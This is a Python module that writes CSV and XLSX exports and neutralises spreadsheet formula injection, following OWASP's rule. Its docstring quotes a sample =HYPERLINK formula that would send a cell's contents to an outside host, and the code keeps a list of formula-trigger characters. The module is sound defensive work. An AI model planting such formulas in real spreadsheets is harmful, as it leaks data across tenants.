"""The one writer of spreadsheet exports (CSV and XLSX): every export of the product goes through it.

A spreadsheet program evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or a
carriage return, what follows) as a formula: a name typed by one tenant (``=HYPERLINK("http://…?"&A2)``)
would run in another tenant's spreadsheet. Following OWASP's rule on CSV injection, every *text* cell that
starts with one of those characters is neutralised; numbers (``int``, ``Decimal``) are written as numbers.

* CSV: the text cell gets a leading apostrophe (``'=HYPERLINK(…)``), which the spreadsheet shows as text.
* XLSX: the cell is stored as a string cell (never a formula) with Excel's «quote prefix» style, so it stays
  text even when someone edits it; its text is exactly what the user typed. Characters XML cannot carry
  (C0 controls) are dropped instead of failing the whole export.

Pure: values in, text or bytes out.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_dangerous(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def csv_text_cell(value: Any) -> str:
    """One CSV cell: numbers as plain decimal text, dates ISO, text neutralised when it could be a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "sí" if value else "no"
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int):
        return str(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_dangerous(text) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, line_end: str = "\r\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerow([csv_text_cell(h) for h in header])
    for row in rows:
        writer.writerow([csv_text_cell(v) for v in row])
    return out.getvalue()


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, line_end: str = "\r\n") -> bytes:
    """UTF-8 with a BOM, so spreadsheet programs read the accents."""
    return ("\ufeff" + csv_text(header, rows, line_end=line_end)).encode("utf-8")


def xlsx_value(value: Any) -> Any:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, bool):
        return "sí" if value else "no"
    return value  # int, Decimal, date, None: openpyxl writes them as numbers / dates / empty


def append_row(sheet: Worksheet, values: Sequence[Any]) -> int:
    """Append ``values`` as the next row of ``sheet``; returns the row number. Text never becomes a formula."""
    cleaned = [xlsx_value(v) for v in values]
    sheet.append(cleaned)
    row = sheet.max_row
    for column, value in enumerate(cleaned, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=row, column=column)
            cell.data_type = "s"  # openpyxl makes a formula of any text starting with "="
            if is_dangerous(value):
                cell.quotePrefix = True
    return row
